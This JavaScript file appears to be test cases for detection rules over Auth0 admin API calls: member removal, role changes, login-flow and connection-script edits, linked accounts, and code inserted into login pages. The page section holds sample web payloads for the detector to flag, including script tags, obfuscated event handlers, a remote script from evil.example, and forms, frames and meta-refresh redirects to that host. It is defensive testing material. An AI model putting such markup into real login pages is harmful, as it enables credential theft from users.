// What administrators and programs change: members, roles, what runs at a login, pages, linked accounts.

import { byProgram, call, fires, managed, quiet, set } from "../records.mjs";

const removed = call("11:40", "delete", "/api/v2/tenants/members/auth0%7CAb");
const role = call("11:40", "post", "/api/v2/roles", { name: "Helpdesk" });
const deployed = call("11:40", "post", "/api/v2/actions/actions/Act1/deploy", null, { name: "Enrich" });
const linked = call("11:40", "post", "/api/v2/users/auth0%7CAb/identities", { provider: "google-oauth2", user_id: "42" });

const UNIVERSAL = "/api/v2/branding/templates/universal-login";
const TAGS = "<html>{%- auth0:head -%}{% auth0:widget %}</html>";
const page = (path, body, method = "put") => call("11:40", method, path, body);
const scripted = page(UNIVERSAL, { template: `${TAGS}<script src=x></script>` });
const advanced = (tag) => ({ rendering_mode: "advanced", head_tags: [{ tag, attributes: { src: "https://evil.example/a.js" } }] });
const put = (code, path = UNIVERSAL) => [`Medium: Auth0 - admin@example.com put ${code} into ${path}`];

export default {
  "tenant-member-removed": {
    cases: [
      fires("removed", [removed], [{
        title: "Auth0 - access taken from auth0|Ab by admin@example.com",
        severity: "Medium",
        entities: ["Account admin@example.com", "IP 203.0.113.9", "Account auth0|Ab"],
        details: { Change: "access taken", Member: "auth0|Ab" },
      }]),
      fires("a role, an invitation, in other spellings", [
        call("11:40", "DELETE", "/api/v2/tenants/members/m%7c1/roles"),
        call("11:41", "delete", "/api/v2/Tenant/Invitations//inv_Ab/"),
        call("11:42", "delete", "/api/v2/tenants/members"),
      ], ["Medium: Auth0 - role taken from m|1 by admin@example.com",
        "Medium: Auth0 - invitation withdrawn from inv_Ab by admin@example.com",
        "Medium: Auth0 - access taken from  by admin@example.com"]),
      quiet("added, or no member of the tenant", [call("11:40", "post", "/api/v2/tenants/members"),
        call("11:40", "delete", "/api/v2/organizations/org_1/members"), call("11:40", "delete", "/api/v2/tenants/membership"),
        call("11:40", "delete", "/api/v2/tenants/settings")]),
      fires("by a program", [byProgram(removed)], [{ entities: ["Account robot", "IP 192.0.2.44", "Account auth0|Ab"] }]),
      ...managed(removed, 1),
    ],
  },
  "role-made-or-widened": {
    cases: [
      fires("made", [role], [{
        title: "Auth0 - Role Helpdesk made by admin@example.com",
        severity: "Low",
        entities: ["Account admin@example.com", "IP 203.0.113.9"],
        details: { Change: "made", Role: "Helpdesk", Permissions: "" },
      }]),
      fires("given permissions", [call("11:40", "POST", "/api/v2/Roles//rol_Ab/permissions/", {
        permissions: [{ permission_name: "delete:orders" }] })], [{
        title: "Auth0 - Role rol_Ab given permissions by admin@example.com",
        details: { Permissions: '[{"permission_name":"delete:orders"}]' },
      }]),
      quiet("changed, given to users, taken away", [call("11:40", "patch", "/api/v2/roles/rol_1", {}),
        call("11:40", "post", "/api/v2/roles/rol_1/users", {}), call("11:40", "delete", "/api/v2/roles/rol_1/permissions"),
        call("11:40", "get", "/api/v2/roles"), call("11:40", "post", "/api/v2/users/u/permissions", {})]),
      fires("by a program", [byProgram(role)], [{ entities: ["Account robot", "IP 192.0.2.44"] }]),
      ...managed(role, 1),
    ],
  },
  "login-flow-changed": {
    cases: [
      set("expectedClients", "dynamic(['shop'])", quiet("by a program that is expected", [deployed])),
      fires("deployed", [deployed], [{
        title: "Auth0 - an Action deployed (Enrich) by admin@example.com",
        severity: "Medium",
        entities: ["Account admin@example.com", "IP 203.0.113.9"],
        details: { Change: "an Action deployed", What: "Enrich" },
      }]),
      fires("bound anew", [call("11:40", "PATCH", "/api/v2/actions/triggers/post-login/bindings", { bindings: [{ ref: 1 }] })],
        ["Medium: Auth0 - Actions bound anew (post-login) by admin@example.com"]),
      fires("taken out", [call("11:41", "patch", "/api/v2/Actions//triggers/post-login/bindings/", { bindings: [] })],
        ["High: Auth0 - all Actions taken out (post-login) by admin@example.com"]),
      fires("deployed and deleted, in capitals", [
        call("11:40", "POST", "/api/v2/actions/actions/Act1/Deploy/"), call("11:41", "DELETE", "/api/v2/actions/actions/Act1"),
      ], ["Medium: Auth0 - an Action deployed (Act1) by admin@example.com",
        "High: Auth0 - an Action deleted (Act1) by admin@example.com"]),
      fires("an earlier version deployed", [call("11:40", "POST", "/api/v2/actions/actions/Act1/versions/Ver1/deploy", {})],
        ["Medium: Auth0 - an Action deployed (Act1) by admin@example.com"]),
      fires("made and deployed at once", [call("11:40", "POST", "/api/v2/Actions//actions/", { name: "Enrich", code: "x", deploy: true })],
        ["Medium: Auth0 - an Action deployed (Enrich) by admin@example.com"]),
      ...["rules", "hooks", "flows", "forms"].map((kind) => fires(`of the ${kind}`, [
        call("11:40", "DELETE", `/api/v2/${kind}/Id1`), call("11:41", "POST", `/api/v2/${kind}`, { name: "Force MFA" }),
        call("11:42", "Patch", `/api/v2/${kind}/Id1`, {}), call("11:43", "PUT", `/api/v2/${kind}/Id1/`, {}),
      ], [`High: Auth0 - one of the ${kind} deleted (Id1) by admin@example.com`,
        `Medium: Auth0 - one of the ${kind} changed (Force MFA) by admin@example.com`,
        `Medium: Auth0 - one of the ${kind} changed (Id1) by admin@example.com`,
        `Medium: Auth0 - one of the ${kind} changed (Id1) by admin@example.com`])),
      fires("tokens of another issuer exchanged as an Action says", [
        call("11:40", "POST", "/api/v2/token-exchange-profiles", { name: "Legacy", action_id: "Act1" }),
        call("11:41", "patch", "/api/v2/Token-Exchange-Profiles//Tep1/", { subject_token_type: "urn:acme:legacy" }),
      ], ["Medium: Auth0 - a token exchange set (Legacy) by admin@example.com",
        "Medium: Auth0 - a token exchange set (Tep1) by admin@example.com"]),
      fires("of a connection, which gets the passwords", [
        call("11:40", "PATCH", "/api/v2/Connections//con_1/", { options: { customScripts: { login: "function login() {}" } } }),
        call("11:41", "post", "/api/v2/connections", { name: "Users", options: { enabledDatabaseCustomization: true, customScripts: { login: "function login() {}" } } }),
        call("11:42", "patch", "/api/v2/connections/con_2", { options: { scripts: { fetchUserProfile: "function () {}" } } }),
      ], ["Medium: Auth0 - scripts of a connection changed (con_1) by admin@example.com",
        "Medium: Auth0 - scripts of a connection changed (Users) by admin@example.com",
        "Medium: Auth0 - scripts of a connection changed (con_2) by admin@example.com"]),
      quiet("of a connection without scripts", [
        call("11:40", "patch", "/api/v2/connections/con_1", { options: { customScripts: {}, brute_force_protection: true } }),
        call("11:41", "patch", "/api/v2/connections/con_1", { options: { customScripts: null, scripts: {} } }),
        call("11:42", "get", "/api/v2/connections/con_1", { options: { customScripts: { login: "x" } } }),
        call("11:42", "patch", "/api/v2/connections/con_1", { options: { customScripts: { login: "x" }, enabledDatabaseCustomization: false } }),
        call("11:43", "patch", "/api/v2/connections/con_1/clients", { options: { customScripts: { login: "x" } } }),
      ]),
      quiet("looked at, drafted, or something else", [
        call("11:40", "get", "/api/v2/rules"), call("11:40", "get", "/api/v2/actions/triggers/post-login/bindings"),
        call("11:40", "post", "/api/v2/actions/actions", {}), call("11:40", "post", "/api/v2/actions/actions", { deploy: false }),
        call("11:40", "patch", "/api/v2/actions/actions", { deploy: true }), call("11:40", "post", "/api/v2/actions/modules", { deploy: true }), call("11:40", "post", "/api/v2/actions/actions/Act1/test", {}),
        call("11:40", "get", "/api/v2/actions/actions/Act1/deploy"), call("11:40", "patch", "/api/v2/actions/actions/Act1", {}),
        call("11:40", "get", "/api/v2/actions/actions/Act1/versions/Ver1/deploy"), call("11:40", "get", "/api/v2/actions/actions/Act1/versions/Ver1"),
        call("11:40", "delete", "/api/v2/rules-configs/x"), call("11:40", "patch", "/api/v2/hooks/1/secrets", {}),
        call("11:40", "get", "/api/v2/token-exchange-profiles/Tep1"), call("11:40", "delete", "/api/v2/token-exchange-profiles/Tep1"),
        call("11:40", "delete", "/api/v2/hooks/1/secrets"), call("11:40", "post", "/api/v2/roles", {}), call("11:40", "delete", "/api/v2/roles/r"),
      ]),
      fires("by a program", [byProgram(deployed)], [{ entities: ["Account robot", "IP 192.0.2.44"] }]),
      ...managed(deployed, 1),
    ],
  },
  "page-with-code": {
    cases: [
      fires("a script", [scripted], [{
        title: `Auth0 - admin@example.com put a script into ${UNIVERSAL}`,
        severity: "Medium",
        entities: ["Account admin@example.com", "IP 203.0.113.9"],
        details: { Code: "a script", Path: UNIVERSAL },
      }]),
      fires("as a text", [page(UNIVERSAL, `<html>${TAGS}<SCRIPT>x</SCRIPT>`)], put("a script")),
      fires("an address that is one", [page(UNIVERSAL, { template: `${TAGS}<a href='JavaScript:x'>` })], put("a script")),
      fires("an event handler", [page(UNIVERSAL, { template: `${TAGS}<img OnError = x>` })], put("an event handler")),
      ...[
        [UNIVERSAL, { template: `${TAGS}<img src=x\nonerror\n=a()>` }, "put"],
        ["/api/v2/clients/Cl1", { custom_login_page: "<body\nonload=a()>" }, "patch"],
        ["/api/v2/tenants/settings", { error_page: { html: "<body\tonload\t=a()>" } }, "patch"],
        ["/api/v2/prompts/login/partials", { login: { "form-content-start": "<img src=x\r\nOnError=a()>" } }, "put"],
      ].map(([path, body, method]) => fires(`an event handler on a line of its own at ${path}`, [page(path, body, method)], put("an event handler", path))),
      fires("an event handler after a value that seems to end the tag", [page(UNIVERSAL, { template: `${TAGS}<img alt=">" src=x onerror=a()>` })], put("an event handler")),
      quiet("a parameter like one after a page", [page("/api/v2/email-templates/verify_email", { body: "<p>Hi</p>", resultUrl: "https://app.example/?onboarding=true&once=1" }, "patch")]),
      quiet("a word like one on a line of its own", [page("/api/v2/clients/Cl1", { custom_login_page: "<p>1\non =a()</p><b\nicon=a>" }, "patch")]),
      // What is masked to the end of a text, and a script after it.
      ...["<!-- -----BEGIN PRIVATE KEY----- -->", '<!-- {"password":" -->', "key="].flatMap((veil) => [
        [UNIVERSAL, (html) => ({ template: html }), "put"],
        ["/api/v2/clients/Cl1", (html) => ({ custom_login_page: html }), "patch"],
        ["/api/v2/tenants/settings", (html) => ({ error_page: { html } }), "patch"],
        ["/api/v2/tenants/settings", (html) => ({ change_password: { enabled: true, html } }), "patch"],
        ["/api/v2/prompts/login/partials", (html) => ({ login: { "form-content-start": html } }), "put"],
        ["/api/v2/email-templates/verify_email", (html) => ({ body: html }), "patch"],
      ].map(([path, body, method]) => fires(`behind ${veil} at ${path}`, [page(path, body(`${veil}<script>a=1</script>&amp;`), method)], put("what looks like a secret", path)))),
      fires("behind a key in a text", [page(UNIVERSAL, "<style>{}</style>-----BEGIN PRIVATE KEY-----<script>a=1</script>")], put("what looks like a secret")),
      fires("behind a key at the beginning of a text", [page(UNIVERSAL, "-----BEGIN PRIVATE KEY-----<script>a=1</script>")], put("what looks like a secret")),
      quiet("a secret beside a page", [page("/api/v2/clients/Cl1", { custom_login_page: "<p>Hello</p>", client_secret: "x" }, "patch")]),
      // What catches a password without a script.
      ...["<iframe src='https://evil.example'>", "<FORM\naction='https://evil.example'>", "<base href='https://evil.example'>",
        "<embed src=x>", "<object data=x>", "<frame src=x>", "<button FormAction = 'https://evil.example'>",
        '<meta http-equiv="Refresh" content="0;url=https://evil.example">', "<meta content=x http-equiv=refresh>",
        `<meta content="0;url='https://evil.example?>'" http-equiv=refresh>`,
      ].map((tag) => fires(tag.replace("\n", " "), [page(UNIVERSAL, { template: `${TAGS}${tag}` })], put("a frame, a form or another address"))),
      quiet("words like those", [page(UNIVERSAL, { template: `${TAGS}<formula><basefont><p>form: formaction, refresh</p><meta name="refresh">` })]),
      fires("an expression", [page(UNIVERSAL, { template: `${TAGS}{{ user.name }}` })], put("an expression")),
      fires("a tag", [page(UNIVERSAL, { template: `${TAGS}{%- if x -%}` })], put("an expression")),
      ...[
        ["/api/v2/email-templates/verify_email", { body: "<script>" }, "PATCH"],
        ["/api/v2/email-templates", { body: "<script>" }, "POST"],
        ["/api/v2/clients/Cl1", { custom_login_page: "<script>" }, "patch"],
        ["/api/v2/clients", { custom_login_page: "<script>" }, "post"],
        ["/api/v2/tenants/settings", { change_password: { enabled: true, html: "<script>" } }, "patch"],
        ["/api/v2/tenants/settings", { guardian_mfa_page: { enabled: true, html: "<script>" } }, "patch"],
        ["/api/v2/prompts/login/partials", { login: { "form-content-start": "<script>" } }, "PUT"],
        ["/api/v2/prompts/login/screen/login/rendering", advanced("Script"), "PATCH"],
        ["/api/v2/prompts/rendering", { configs: [{ prompt: "login", screen: "login", ...advanced("script") }] }, "PATCH"],
      ].map(([path, body, method]) => fires(`at ${path}`, [page(path, body, method)], put("a script", path))),
      quiet("none", [page(UNIVERSAL, { template: `${TAGS}<p>Come on = now</p>` }), page(UNIVERSAL, { template: TAGS }),
        page("/api/v2/clients/Cl1", { name: "Portal", description: "the one = best" }, "patch"),
        page("/api/v2/prompts/login/screen/login/rendering", advanced("link"), "patch"),
        page("/api/v2/email-templates/welcome_email", { body: "Hello {{ user.name }} {% if x %}" }, "patch")]),
      quiet("looked at, or something else", [page(UNIVERSAL, { template: "<script>" }, "get"),
        page("/api/v2/actions/actions/Act1", { code: "<script>" }, "patch"),
        page(`${UNIVERSAL}/x`, { template: "<script>" }), page("/api/v2/clients/Cl1/credentials", { name: "<script>" }, "patch")]),
      fires("by a program", [byProgram(scripted)], [{ entities: ["Account robot", "IP 192.0.2.44"] }]),
      ...managed(scripted, 1),
    ],
  },
  "account-linked": {
    cases: [
      set("expectedClients", "dynamic(['shop'])", quiet("by a program that is expected", [linked])),
      fires("linked", [linked], [{
        title: "Auth0 - google-oauth2|42 was linked to auth0|Ab",
        severity: "Medium",
        entities: ["Account admin@example.com", "IP 203.0.113.9", "Account auth0|Ab"],
        details: { Account: "auth0|Ab", Linked: "google-oauth2|42" },
      }]),
      fires("in each way to say whom", [
        call("11:40", "POST", "/api/v2/Users//auth0%7c1/identities/", { provider: "auth0", user_id: "auth0|7" }),
        call("11:41", "post", "/api/v2/users/auth0|2/identities", { user_id: "8" }),
        call("11:42", "post", "/api/v2/users/auth0|3/identities", { link_with: "a.b.c" }),
      ], ["Medium: Auth0 - auth0|7 was linked to auth0|1", "Medium: Auth0 - 8 was linked to auth0|2",
        "Medium: Auth0 - another was linked to auth0|3"]),
      quiet("unlinked, or something else", [call("11:40", "delete", "/api/v2/users/auth0%7CAb/identities/google-oauth2/42"),
        call("11:40", "get", "/api/v2/users/auth0%7CAb/identities"), call("11:40", "post", "/api/v2/users", {}),
        call("11:40", "post", "/api/v2/users/auth0%7CAb/roles", {})]),
      fires("by a program", [byProgram(linked)], [{ entities: ["Account robot", "IP 192.0.2.44", "Account auth0|Ab"] }]),
      ...managed(linked, 1),
    ],
  },
};
